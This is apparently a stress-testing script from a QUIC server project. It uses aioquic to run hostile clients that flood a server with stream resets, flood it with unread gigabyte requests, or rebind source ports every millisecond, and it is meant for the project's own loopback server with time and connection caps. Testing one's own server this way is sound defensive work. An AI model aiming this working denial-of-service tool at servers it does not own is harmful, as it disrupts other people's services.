#!/usr/bin/env python3
"""Hostile hq-interop clients on aioquic, against `fastudp quic serve` of
your own (loopback or your own namespaces), for a bounded time.

    python3 scripts/quic-aioquic-attacks.py MODE HOST PORT SECONDS CONNECTIONS

MODE:
  reset    open streams as fast as stream credit allows, each with a request
           for /bytes/1000000000, reset and stopped at once
  request  the same request on every stream, ended (FIN), the answers never
           looked at
  migrate  every millisecond, move to a new source port (NAT rebinding),
           with a PING and a request
Prints per connection the streams opened (or moves made).
"""
import asyncio
import ssl
import sys
import time

from aioquic.asyncio import connect
from aioquic.quic.configuration import QuicConfiguration

REQUEST = b"GET /bytes/1000000000\r\n"


async def one(mode, host, port, secs):
    cfg = QuicConfiguration(
        is_client=True,
        alpn_protocols=["hq-interop"],
        verify_mode=ssl.CERT_NONE,
        idle_timeout=30,
    )
    loop = asyncio.get_running_loop()
    async with connect(host, port, configuration=cfg) as c:
        q = c._quic
        end = time.time() + secs
        n = 0
        while time.time() < end:
            if mode == "migrate":
                old = c._transport
                # The protocol takes the new socket (connection_made).
                await loop.create_datagram_endpoint(lambda: c, local_addr=("::", 0))
                old.close()
                q.send_ping(n)
                try:
                    q.send_stream_data(q.get_next_available_stream_id(), REQUEST, end_stream=True)
                except Exception:
                    pass
                n += 1
            else:
                for _ in range(16):
                    try:
                        sid = q.get_next_available_stream_id()
                        if mode == "reset":
                            q.send_stream_data(sid, REQUEST)
                            q.reset_stream(sid, 7)
                            q.stop_stream(sid, 7)
                        else:
                            q.send_stream_data(sid, REQUEST, end_stream=True)
                        n += 1
                    except Exception:
                        break
            c.transmit()
            await asyncio.sleep(0.001)
        print(mode, n)


async def main():
    if len(sys.argv) != 6 or sys.argv[1] not in ("reset", "request", "migrate"):
        sys.exit(__doc__)
    mode, host, port, secs, n = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4]), int(sys.argv[5])
    if not 0 < secs <= 600 or not 0 < n <= 1000:
        sys.exit("SECONDS: 0 to 600; CONNECTIONS: 1 to 1000")
    await asyncio.gather(*(one(mode, host, port, secs) for _ in range(n)))


asyncio.run(main())
